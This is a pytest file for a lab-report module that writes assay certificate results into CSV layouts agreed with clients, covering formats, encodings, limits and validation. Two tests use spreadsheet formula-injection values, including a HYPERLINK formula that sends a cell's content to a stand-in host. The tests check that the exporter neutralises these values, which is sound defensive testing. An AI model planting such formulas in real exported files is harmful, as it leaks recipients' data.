"""Results in the layout that a client agreed on: written, read back, the same printed figures."""

import csv
from dataclasses import replace
from io import StringIO

import pytest

from reports.delivery import COLUMNS, HEADS, AboveAs, Analyte, BadDelivery, BelowAs, DeliveryLayout
from reports.document import Cell, CertificateDocument
from reports.render.delivery import CannotDeliver, render_delivery
from reports.render.numbers import plain
from reports.render.tables import written
from tests.render.documents import certificate

OURS = DeliveryLayout("ours")


def read(content: bytes, layout: DeliveryLayout) -> list[list[str]]:
    part = {"comma": ",", "semicolon": ";", "tab": "\t"}[layout.delimiter]
    return list(csv.reader(StringIO(content.decode(layout.encoding), newline=""), delimiter=part))


def with_cells(*cells: Cell) -> CertificateDocument:
    document = certificate(len(cells), 1)
    placed = tuple(replace(cell, column=column.key) for cell, column in zip(cells, document.columns, strict=True))
    return replace(document, rows=(replace(document.rows[0], cells=placed),))


BELOW = Cell("", "<0.5", None, "<", "0.5", 1, "", "", 1)
ABOVE = Cell("", ">10\u00a0000", None, ">", "10000", 0, "", "", 1)
PLAIN = Cell("", "4.10", "4.10", "", None, 2, "", "0.25", 1)
WORDS = Cell("", "insufficient sample", None, "", None, 0, "", "", None)

CASES = [
    (OURS, ["<0.5", ">10000", "4.10", "insufficient sample"]),
    (replace(OURS, below=BelowAs.BLANK), ["", ">10000", "4.10", "insufficient sample"]),
    (replace(OURS, below=BelowAs.NEGATIVE), ["-0.5", ">10000", "4.10", "insufficient sample"]),
    (replace(OURS, below=BelowAs.HALF), ["0.25", ">10000", "4.10", "insufficient sample"]),
    (replace(OURS, above=AboveAs.LIMIT), ["<0.5", "10000", "4.10", "insufficient sample"]),
    (replace(OURS, decimal="comma", delimiter="semicolon"), ["<0,5", ">10000", "4,10", "insufficient sample"]),
    (replace(OURS, with_uncertainty=True), ["<0.5", "", ">10000", "", "4.10", "0.25", "insufficient sample", ""]),
]  # fmt: skip


@pytest.mark.parametrize(("layout", "values"), CASES, ids=lambda one: str(one)[:40])
def test_a_result_is_written_as_agreed(layout: DeliveryLayout, values: list[str]) -> None:
    lines = read(render_delivery(with_cells(BELOW, ABOVE, PLAIN, WORDS), layout), layout)
    assert lines[-1][2:] == values


ROUND_TRIPS = [
    replace(OURS, shape=shape, columns=columns, heads=heads, delimiter=delimiter, decimal=decimal, encoding=encoding)
    for shape in ("wide", "long")
    for columns, heads in ((("sample",), ("name", "unit")), (COLUMNS, HEADS))
    for delimiter, decimal in (("comma", "point"), ("semicolon", "comma"), ("tab", "comma"))
    for encoding in ("utf-8-sig", "utf-16", "cp1252")
]


@pytest.mark.parametrize("layout", ROUND_TRIPS, ids=str)
def test_read_back_it_holds_every_printed_figure(layout: DeliveryLayout) -> None:
    document = certificate(8, 14)
    expected = {
        (row.number, column.formula): written(cell, column).value
        for row in document.rows
        for cell, column in zip(row.cells, document.columns, strict=True)
    }
    lines = read(render_delivery(document, layout), layout)
    found = _wide(lines, layout) if layout.shape == "wide" else _long(lines, layout)
    assert found == expected


def _wide(lines: list[list[str]], layout: DeliveryLayout) -> dict[tuple[str, str], str]:
    names = lines[layout.heads.index("name")][len(layout.columns) :]
    sample = layout.columns.index("sample")
    return {
        (line[sample], name): value.replace(",", ".")
        for line in lines[len(layout.heads) :]
        for name, value in zip(names, line[len(layout.columns) :], strict=True)
    }


def _long(lines: list[list[str]], layout: DeliveryLayout) -> dict[tuple[str, str], str]:
    heads, *rest = lines
    return {(line[heads.index("sample")], line[heads.index("name")]): line[-1].replace(",", ".") for line in rest}


def test_the_client_chooses_order_and_names() -> None:
    layout = replace(OURS, analytes=(Analyte("Pb", "LEAD"), Analyte("Cu")))
    document = certificate(8, 3)
    heads, units, first, *_ = read(render_delivery(document, layout), layout)
    cells = {cell.column: cell for cell in document.rows[0].cells}
    assert (heads[2:], units[2:]) == (["LEAD", "Cu"], ["mg/kg", "mg/kg"])
    assert [plain(value.lstrip("<")) for value in first[2:]] == [
        plain(cells[name].printed.lstrip("<")) for name in ("Pb", "Cu")
    ]


def by_two_methods() -> CertificateDocument:
    """Gold by fire assay and by another method."""
    document = certificate(1, 1)
    (column,) = document.columns
    return replace(document, columns=(column, replace(column, key="AR Au", method="AR")))


CANNOT = [
    (replace(OURS, analytes=(Analyte("Xx"),)), with_cells(PLAIN), "Xx is not on the certificate"),
    (replace(OURS, analytes=(Analyte("Au"),)), by_two_methods(), "Au stands on it by several methods"),
    (OURS, with_cells(replace(PLAIN, printed="5.43\u00a0%", number="5.43")), "is printed in %"),
    (replace(OURS, encoding="cp1252"), with_cells(replace(WORDS, printed="Ω")), "has no place in cp1252"),
]  # fmt: skip


@pytest.mark.parametrize(("layout", "document", "words"), CANNOT, ids=[row[2] for row in CANNOT])
def test_what_cannot_be_laid_out_is_said(layout: DeliveryLayout, document: CertificateDocument, words: str) -> None:
    with pytest.raises(CannotDeliver, match=words):
        render_delivery(document, layout)


@pytest.mark.parametrize(("harmless", "found"), [(True, "'=1+1"), (False, "=1+1")])
def test_an_identification_is_no_formula_unless_the_client_wants_it_so(harmless: bool, found: str) -> None:
    document = with_cells(PLAIN)
    named = replace(document, rows=(replace(document.rows[0], client_identification="=1+1"),))
    layout = replace(OURS, formulas_are_harmless=harmless)
    assert found in read(render_delivery(named, layout), layout)[-1]


@pytest.mark.parametrize(("harmless", "guard"), [(True, "'"), (False, "")])
def test_what_a_client_calls_an_analyte_is_no_formula_either(harmless: bool, guard: str) -> None:
    called, missing = '=HYPERLINK("http://elsewhere.example/"&A2)', "=1+1"
    document = certificate(2, 1)
    gone = replace(document, rows=(replace(document.rows[0], cells=document.rows[0].cells[1:]),))
    analytes = tuple(Analyte(column.formula, called) for column in document.columns[:1])
    layout = DeliveryLayout("x", analytes=analytes, missing=missing, formulas_are_harmless=harmless)
    lines = read(render_delivery(gone, layout), layout)
    assert (lines[0][-1], lines[-1][-1]) == (guard + called, guard + missing)


def test_a_switched_unit_stands_beside_its_number_in_the_long_shape() -> None:
    layout = replace(OURS, shape="long")
    document = with_cells(replace(PLAIN, printed="5.43\u00a0%", number="5.43"))
    heads, line = read(render_delivery(document, layout), layout)
    assert (line[heads.index("unit")], line[-1]) == ("%", "5.43")


BAD = [
    ({"name": " "}, "needs a name"),
    ({"shape": "tall"}, "wide or long"),
    ({"columns": ("sample", "colour")}, "“colour” is not known"),
    ({"columns": ("sample", "sample")}, "named twice"),
    ({"heads": ("unit",)}, "names of the analytes"),
    ({"shape": "long", "heads": ("name",)}, "needs the unit"),
    ({"encoding": "ebcdic"}, "“ebcdic” is not known"),
    ({"decimal": "comma"}, "A comma cannot part"),
]


@pytest.mark.parametrize(("given", "words"), BAD, ids=[row[1] for row in BAD])
def test_a_layout_that_cannot_be_used_is_refused(given: dict[str, object], words: str) -> None:
    with pytest.raises(BadDelivery, match=words):
        replace(OURS, **given)  # type: ignore[arg-type]


def test_what_hides_something_needs_a_written_request() -> None:
    assert OURS.needs_agreement == ()
    hiding = replace(OURS, below=BelowAs.HALF, above=AboveAs.LIMIT, formulas_are_harmless=False)
    assert len(hiding.needs_agreement) == 3


@pytest.mark.parametrize("layout", [OURS, ROUND_TRIPS[-1], replace(OURS, analytes=(Analyte("Cu", "Copper", "AR"),))])
def test_a_layout_is_kept_as_text(layout: DeliveryLayout) -> None:
    assert DeliveryLayout.from_json(layout.to_json()) == layout


@pytest.mark.parametrize("text", ["", "[]", '{"name": "x", "colour": 1}', '{"name": "x", "below": "zero"}'])
def test_text_that_is_no_layout_is_refused(text: str) -> None:
    with pytest.raises(BadDelivery):
        DeliveryLayout.from_json(text)
